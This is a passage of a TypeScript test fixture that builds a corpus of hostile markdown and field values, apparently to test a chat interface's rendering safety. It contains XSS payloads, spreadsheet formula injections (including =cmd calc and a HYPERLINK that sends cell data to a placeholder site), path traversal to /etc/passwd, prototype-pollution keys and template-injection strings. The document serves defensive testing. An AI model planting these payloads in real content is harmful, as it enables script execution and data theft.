  '{"resultOfOps":[{"op":"deleteEverything()","result":"<script>canary()</script>"}]}',
  '```json\n{"name":"tellUser"}\n```\n\n```invoke\n{"name":"x"}\n```',
];

const csv = [
  fence(
    'csv',
    'name,value',
    `=cmd|' /C calc'!A0,1`,
    '"+1+1",2',
    '-2+3,3',
    '@SUM(1+1),4',
    `"<script>${run}</script>",5`,
  ),
  fence(
    'csv',
    `=HYPERLINK("${site}?x="&A1,"press"),1`,
    `=IMPORTXML("${site}","//a"),2`,
    `\t=1+1,3`,
    `\r=1+1,4`,
  ),
  `| =cmd\\|' /C calc'!A0 | @SUM(1) |\n| --- | --- |\n| =HYPERLINK("${site}") | +1 |`,
  fence('tsv', '=1+1\t<script>canary()</script>'),
  fence('csv filename="=cmd|calc.csv"', 'a,b', `"${'x'.repeat(3000)}",1`),
];

const byClass: Record<HostileClass, readonly string[]> = {
  html,
  svg,
  scheme,
  entity,
  image,
  reference,
  disguise,
  'internal-link': internalLink,
  footnote,
  'info-string': infoString,
  nesting,
  unicode,
  'special-block': specialBlock,
  mermaid,
  vega,
  maths,
  json: jsonBlocks,
  csv,
};

/** All cases. */
export const hostileCorpus: readonly HostileCase[] = hostileClasses.flatMap((name) =>
  byClass[name].map((markdown, index) => ({
    id: `${name}-${String(index + 1).padStart(2, '0')}`,
    class: name,
    markdown,
  })),
);

/** Texts that no markdown is made of, for names, labels, titles, errors and whatever else a server or a file may say. */
export const hostileTexts: readonly string[] = [
  `<img src=x onerror=${run}>`,
  `<script>${run}</script>`,
  `"><svg onload=${run}>`,
  `javascript:${run}`,
  `\u202egpj.exe`,
  `${site}/p.gif`,
  '__proto__',
  'constructor',
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `=cmd|' /C calc'!A0`,
  '../../etc/passwd',
  `z${'\u0301'.repeat(200)}`,
];

/** Cases as one message, each under its id, so that what happens in one is seen to be its doing. */
export const asMessage = (cases: readonly HostileCase[]): string =>
  cases.map(({ id, markdown }) => `### ${id}\n\n${markdown}\n\n`).join('\n');

/** Cases of one message of the journeys and of the scripted model server. */
export const hostileBatchSize = 45;

/** Cases that open what nothing closes, so that they take in all that follows. */
const endless = new Set(['info-string-20', 'nesting-09', 'nesting-13']);

/** The corpus in messages of about this many cases; what never ends stands last in its message. */
export function hostileBatches(size: number, of: readonly HostileCase[] = hostileCorpus): HostileCase[][] {
  const batches: HostileCase[][] = [[]];
  for (const one of of) {
    const last = batches.at(-1) ?? [];
    if (last.length >= size || endless.has(last.at(-1)?.id ?? '')) batches.push([one]);
    else last.push(one);
  }
  return batches;
}

const everywhere = (make: (text: string) => unknown) => hostileTexts.map(make);

/** State as a server might send it along with a reply, hostile in every field that is shown. */
export const hostileState = {
  sources: Object.fromEntries(
    [
      'rag',
      'documentContext',
      'images',
      'website',
      'webSearch',
      '__proto__',
      'constructor',
      `<img src=x onerror=${run}>`,
    ].map((group) => [
      group,
      {
        sources: everywhere((text) => ({
          type: text,
          key: text,
          name: text,
          url: text.includes(':') ? text : `javascript:${run}`,
          content: text,
          contentKey: text,
          locations: [{ page: 1, [text]: text, paragraph: text }],
        })),
        data: { chunkCount: 3 },
      },
    ]),
  ),
  codeInterpreter: {
    threadId: 't',
    textContent: `<script>${run}</script>`,
    content: everywhere((text) => ({
      type: 'image/svg+xml',
      values: {
        file_key: text,
        presigned_url: text.includes(':') ? text : `${site}/p.svg`,
        file_key_low_res: text,
        presigned_url_low_res: `${site}/p.gif`,
        file_size: 10,
      },
    })).concat(
      ['image/png', 'application/pdf', 'text/csv', 'text/html'].map((type) => ({
        type,
        values: { file_key: `x/${type}`, presigned_url: `${site}/file`, file_size: 10 },
      })),
    ),
  },
  agentLog: {
    handled: true,
    data: {
      result: everywhere((text) => ({
        role: 'assistant',
        content: { tool: text, tool_call: text, result: text, args: { [text]: text } },
      })),
      files: Object.fromEntries(
        hostileTexts.map((text) => [
          text,
          {
            original_name: text,
            versions: [{ version_file_id: text, hash: text, timestamp: text, size: 1 }],
          },
        ]),
      ),
    },
  },
  mcpToolCalls: everywhere((text) => ({ id: text, name: text, arguments: { [text]: text } })),
  mcpToolResults: everywhere((text) => ({ id: text, content: text })),
  reasoning: `<script>${run}</script>`,
  artifactCompletion: true,
};

/** A run record whose failure speaks. */
export const hostileRun = {
  requestId: 'r',
  status: 'failed',
  seq: 1,
  modelId: `<script>${run}</script>`,
  reason: `<img src=x onerror=${run}>`,
  error: {
    code: `<b>`,
    title: `<img src=x onerror=${run}>`,
    message: `javascript:${run}`,
    lines: [...hostileTexts],
  },
};
